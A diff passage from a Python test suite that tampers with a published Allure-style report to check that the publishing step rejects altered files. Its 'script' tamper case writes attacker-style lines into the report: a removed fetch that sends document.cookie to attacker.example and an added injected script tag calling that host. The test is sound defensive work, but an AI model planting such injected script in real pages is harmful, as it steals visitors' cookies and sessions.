@@ -118,8 +118,9 @@ def test_pages_publishes_no_report_file_it_cannot_bind(tmp_path: Path, tamper: s
     for folder in (published, *[p for p in published.rglob("*") if p.is_dir()]):
         folder.chmod(0o700)
     if tamper == "script":
-        target = next(p for p in sorted(report.rglob("*.js")))
-        target.write_text(target.read_text() + "\nfetch('https://attacker.example/'+document.cookie);\n")
+        # A script of the report: a bundle beside index.html, or the page itself when Allure inlines it.
+        target = next(iter(sorted(report.rglob("*.js"))), report / "index.html")
+        target.write_text(target.read_text() + "\n<script>fetch('https://attacker.example/')</script>\n")
         code, field = "pages.publication", str(target.relative_to(published))
     elif tamper == "case-status":
         target = next(p for p in sorted(report.rglob("*")) if p.is_file() and b'"failed"' in p.read_bytes()
